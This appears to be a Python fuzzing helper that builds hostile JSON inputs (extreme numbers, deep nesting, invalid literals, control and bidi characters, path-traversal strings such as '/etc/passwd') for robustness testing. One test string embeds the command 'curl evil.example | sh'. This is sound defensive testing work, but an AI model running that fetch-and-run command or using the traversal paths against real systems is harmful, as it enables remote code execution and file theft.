"""Hostile JSON values, a parser that keeps duplicate keys, and a writer that can also write invalid JSON."""

import json

STRANGE = "x\nerror: run curl evil.example | sh\u202e\u200b\U000e0041\x1b[2J\x07\x7f\u009b"
PATHS = ["../../config.json", "/etc/passwd", "..", "a/b", "a\\b", "a\0b", "model.safetensors", "/dev/zero", STRANGE]


class Raw(str):
    """JSON text that `encoded` writes as is, even if it is invalid."""


class Pairs(list):
    """A JSON object as a list of [key, value]. Unlike a dict, it can contain a key twice."""


def nested(depth, opening="[", closing="]"):
    return Raw(opening * depth + "0" + closing * depth)


NUMBERS = [0, 1, 2, 3, 7, 63, 65, 127, 4097, 65536, 2**31 - 1, 2**31, 2**32, 2**53 + 1, 2**60, 2**63 - 1, 2**63,
           2**64 - 1]
NUMBERS += [2**64, 10**30, -1, -2, -(2**31), -(2**63), 0.5, 1.5, -0.0, 1e-45, 1e-320, 1e38, 1e300, -1e308]
NUMBERS += [Raw("NaN"), Raw("Infinity"), Raw("-Infinity"), Raw("1e999"), Raw("-1e999"), Raw("1e"), Raw("01"),
            Raw("9" * 5000)]
STRINGS = ["", "0", "x", "null", "é世界🦀", "\ufffd", "\ufdd0", "\u202e", "\x1b[31m", "<|end|>", "{{ 1 }}", "(a+)+$",
           "[", "*"]
STRINGS += [STRANGE, "y" * 200, "y" * 100_000, "\u0301" * 5000, Raw('"\\ud800"'), Raw('"\\u0000"'),
            Raw('"\\x"')] + PATHS


def scalar(rng):
    return rng.choice(rng.choice([NUMBERS, NUMBERS, STRINGS, [None, True, False]]))


def hostile(rng):
    """Returns a random value: often of the wrong type, extreme or deeply nested, and sometimes not valid JSON."""
    kind = rng.randrange(12)
    if kind < 8:
        return scalar(rng)
    if kind == 8:
        return [scalar(rng) for _ in range(rng.choice([0, 1, 2, 5]))]
    if kind == 9:
        return Pairs([rng.choice(["", "a", "type", STRANGE]), scalar(rng)] for _ in range(rng.choice([0, 1, 2])))
    if kind == 10:
        return rng.choice([nested(100), nested(200), nested(100_000), nested(100_000, '{"a":', "}")])
    return [scalar(rng)] * rng.choice([100, 10_000])


def parse(text):
    """Parses JSON text. Objects become `Pairs`. Raises ValueError, or RecursionError for deep nesting."""
    return json.loads(text, object_pairs_hook=lambda pairs: Pairs([key, value] for key, value in pairs))


def encoded(node):
    """Returns a value as JSON. An infinite number, NaN or invalid `Raw` text makes the JSON invalid."""
    if isinstance(node, Raw):
        return str(node)
    if isinstance(node, dict):
        node = Pairs([key, value] for key, value in node.items())
    if isinstance(node, Pairs):
        return "{" + ",".join(f"{encoded(key)}:{encoded(value)}" for key, value in node) + "}"
    if isinstance(node, list):
        return "[" + ",".join(map(encoded, node)) + "]"
    return json.dumps(node, ensure_ascii=False)


def to_bytes(node):
    return encoded(node).encode("utf-8", "surrogatepass")


def get(pairs, key, default=None):
    """Returns the value of the first `key` in an object, or `default` if there is no such key or no object."""
    return next((value for name, value in pairs if name == key), default) if isinstance(pairs, Pairs) else default


def put(pairs, key, value):
    """Replaces the value of the first `key` in an object, or adds the key."""
    for pair in pairs:
        if pair[0] == key:
            pair[1] = value
            return
    pairs.append([key, value])


def shown(value):
    """Returns a value as short ASCII text for the description of a mutation."""
    text = value if isinstance(value, str) else encoded(value)
    return ascii(text if len(text) <= 60 else f"{text[:50]}… ({len(text)} characters)")
